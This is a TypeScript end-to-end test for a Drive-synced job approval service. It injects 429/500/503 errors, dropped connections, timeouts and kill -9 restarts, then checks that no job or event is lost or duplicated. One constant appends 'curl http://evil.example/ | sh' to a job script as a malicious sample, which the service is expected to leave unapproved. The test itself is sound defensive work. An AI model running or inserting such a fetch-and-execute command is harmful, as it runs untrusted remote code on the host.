/**
 * The Drive transport under failure, end to end (real approve service under real PM2, loopback emulator):
 * injected 429/500/503, dropped connections and request timeouts, then `kill -9` of the service in the middle of a
 * sync (while a download and while an upload is in flight). Nothing may be lost or duplicated: every proposal is
 * archived once, the datasite holds exactly the submitted files, the DS receives every event once.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import type { DriveApi } from '../../lib/google/drive';
import { requestPeer, loadPeersAsDs } from '../helpers/ds-client/peer';
import { findDsOwnedFolder, submitJob, type SubmittedJob } from '../helpers/ds-client/proposal';
import { statusJson } from '../helpers/sandbox';
import { bashJob, DO, dsView, duplicateEvents, e2eKit, SCRIPT, waitDsStatus, waitFor } from './kit';

const DS = 'bob@uni.edu';
const EVIL = SCRIPT + 'curl http://evil.example/ | sh\n';

describe('Drive transport under faults and kill -9 (emulator, real PM2)', () => {
  const k = e2eKit({ name: 'e2e-flt', syncExtra: '  request_timeout: 2\n' });
  const dsRoot = () => path.join(k.sb.dir, 'ds-root');
  const submitted: SubmittedJob[] = [];
  let ds: DriveApi;

  const counter = (route: string) => k.emu.world.counters.get(route) ?? 0;

  /** Every file under the DO's inbox folder of a job, relative, sorted. */
  const localJobFiles = (job: string) => {
    const dir = path.join(k.root, DO, 'app_data', 'job', 'inbox', DS, job);
    const out: string[] = [];
    const walk = (d: string, rel: string) => {
      for (const e of fs.readdirSync(d, { withFileTypes: true })) {
        if (e.isDirectory()) walk(path.join(d, e.name), `${rel}${e.name}/`);
        else out.push(`${rel}${e.name}`);
      }
    };
    walk(dir, '');
    return out.sort();
  };

  /** Nothing lost, nothing duplicated, on both sides. */
  const checkNoLossNoDup = async (jobs: Record<string, string>, starts: number) => {
    const doApi = k.api(DO);
    const inbox = (await findDsOwnedFolder(ds, DS, DO, 'inbox'))!;
    expect(await ds.listFolder(inbox.file.id)).toEqual([]);
    const archive = (await doApi.findArchiveFolder(DS, DO))!;
    const archived = (await doApi.listFolder(archive.id)).map((f) => f.name).sort();
    expect(archived).toEqual(submitted.map((s) => s.fileName).sort());
    const v = await dsView(ds, DS, dsRoot());
    expect(duplicateEvents(v.events)).toEqual([]);
    for (const [job, status] of Object.entries(jobs)) {
      expect(v.status(DS, job)).toBe(status);
      expect(localJobFiles(job)).toEqual(['code/script.sh', 'config.yaml', 'run.sh']);
      const verdicts = k.decisions().filter((d) => d.job === job).map((d) => d.verdict);
      if (status === 'done') expect(verdicts).toEqual(['received', 'approved', 'run-queued', 'ran']);
      else {
        // Received once; a pending job is judged again (and audited) once by each service start.
        expect(verdicts[0]).toBe('received');
        expect(verdicts.slice(1).length).toBeGreaterThanOrEqual(1);
        expect(verdicts.slice(1).length).toBeLessThanOrEqual(starts);
        expect(new Set(verdicts.slice(1))).toEqual(new Set(['not-approved']));
      }
    }
    return v;
  };

  beforeAll(async () => {
    const r = await k.sb.cliAsync(['start', 'approve'], { env: k.env });
    expect(r.code).toBe(0);
    ds = k.api(DS);
    await requestPeer(ds, DS, DO);
    await waitFor('DS accepted', async () => (await loadPeersAsDs(ds, DS)).get(DO) === 'accepted', 20_000, 200);
  });

  it('429/500/503, dropped connections and timeouts lose and duplicate nothing', async () => {
    const pid = k.pid();
    for (const [name, script] of [['f-ok1', SCRIPT], ['f-ok2', SCRIPT], ['f-evil', EVIL]] as const) submitted.push(await submitJob(ds, DS, DO, { name, files: bashJob(name, script) }));
    k.emu.world.faults.push(
      { route: 'drive.changes.list', status: 429, reason: 'rateLimitExceeded', count: 2 },
      { route: 'drive.files.list', status: 500, reason: 'backendError', count: 2 },
      { route: 'drive.files.get', status: 503, count: 2 },
      // Longer than sync.request_timeout (2 s): the client gives up, the emulator still creates the file.
      { route: 'drive.upload.create', latencyMs: 3000, count: 1 },
      { route: 'drive.files.update', drop: true, count: 1 },
      { route: 'drive.upload.update', status: 500, reason: 'backendError', count: 1 },
    );
    // The DS stays quiet until the service has met every fault (they apply to whoever calls first).
    await waitFor('faults met by the service', () => k.emu.world.faults.length === 0, 30_000, 50);
    // The timed-out upload (not retried in place: it creates a file) is logged with what failed; the cycle after
    // finds what the emulator created meanwhile instead of uploading it twice (checked below).
    const problems = k.logs().filter((l) => Number(l.level) >= 40).map((l) => String(l.msg));
    expect(problems.some((m) => /drive\.upload\.create: network error TimeoutError/.test(m))).toBe(true);
    await waitDsStatus(ds, DS, dsRoot(), 'f-ok1', ['done', 'failed'], 45_000);
    await waitDsStatus(ds, DS, dsRoot(), 'f-ok2', ['done', 'failed'], 20_000);
    await waitDsStatus(ds, DS, dsRoot(), 'f-evil', ['pending'], 20_000);
    expect(k.emu.world.faults).toEqual([]);
    await checkNoLossNoDup({ 'f-ok1': 'done', 'f-ok2': 'done', 'f-evil': 'pending' }, 1);
    // Errors were logged and retried; the service never restarted.
    expect(k.pid()).toBe(pid);
  });

  it('kill -9 in the middle of a sync (download, then upload in flight) resumes with nothing lost or duplicated', async () => {
    // 1. Held on the download of the proposal: the cycle has listed the inbox and not applied anything yet.
    const get0 = counter('drive.files.get');
    k.emu.world.faults.push({ route: 'drive.files.get', latencyMs: 2500, count: 1 });
    submitted.push(await submitJob(ds, DS, DO, { name: 'k-ok', files: bashJob('k-ok', SCRIPT) }));
    await waitFor('download in flight', () => counter('drive.files.get') > get0, 15_000, 20);
    const pid1 = k.pid()!;
    process.kill(pid1, 'SIGKILL');
    await waitFor('restarted', () => {
      const p = k.pid();
      return p !== null && p !== pid1;
    }, 20_000, 100);
    await waitDsStatus(ds, DS, dsRoot(), 'k-ok', ['done', 'failed'], 30_000);

    // 2. Held on an upload after the proposal was applied (its echo to the DS, or a state it publishes).
    submitted.push(await submitJob(ds, DS, DO, { name: 'k-evil', files: bashJob('k-evil', EVIL) }));
    const up0 = counter('drive.upload.create');
    k.emu.world.faults.push({ route: 'drive.upload.create', latencyMs: 2500, count: 1 });
    await waitFor('upload in flight', () => counter('drive.upload.create') > up0, 15_000, 20);
    const pid2 = k.pid()!;
    process.kill(pid2, 'SIGKILL');
    await waitFor('restarted again', () => {
      const p = k.pid();
      return p !== null && p !== pid2;
    }, 20_000, 100);
    await waitDsStatus(ds, DS, dsRoot(), 'k-evil', ['pending'], 30_000);
    // Let a few more cycles run: a duplicate would show up now.
    await new Promise((r) => setTimeout(r, 2500));
    expect(k.emu.world.faults).toEqual([]);
    await checkNoLossNoDup({ 'f-ok1': 'done', 'f-ok2': 'done', 'f-evil': 'pending', 'k-ok': 'done', 'k-evil': 'pending' }, 3);
  });

  it('a revoked Google grant is a clear fatal configuration error: the service stops (PM2: errored), no crash loop', async () => {
    const tokenPath = path.join(k.sb.syftBgHome, 'token.json');
    for (const [rt, g] of [...k.emu.world.refreshTokens]) {
      if (g.email !== DO) continue;
      k.emu.world.refreshTokens.delete(rt);
      for (const [t, info] of [...k.emu.world.tokens]) if (info.refreshToken === rt) k.emu.world.tokens.delete(t);
    }
    const st = await waitFor('approve errored', () => statusJson(k.sb).services.find((x) => x.name === 'approve' && x.state === 'errored'), 45_000, 500);
    expect(st.exitCode).toBe(78);
    const fatal = k.logs().filter((l) => Number(l.level) >= 60).map((l) => String(l.msg));
    // The running service notices at its next Drive call; each restart then fails its start-up check the same way.
    expect(fatal.length).toBeGreaterThanOrEqual(2);
    for (const m of fatal) expect(m).toMatch(new RegExp(`Google refused the (Drive|refresh) token in ${tokenPath.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} .*Sign in again`));
    // Tokens are never logged.
    expect(JSON.stringify(k.logs())).not.toMatch(/ya29\.|1\/\//);
  });
});
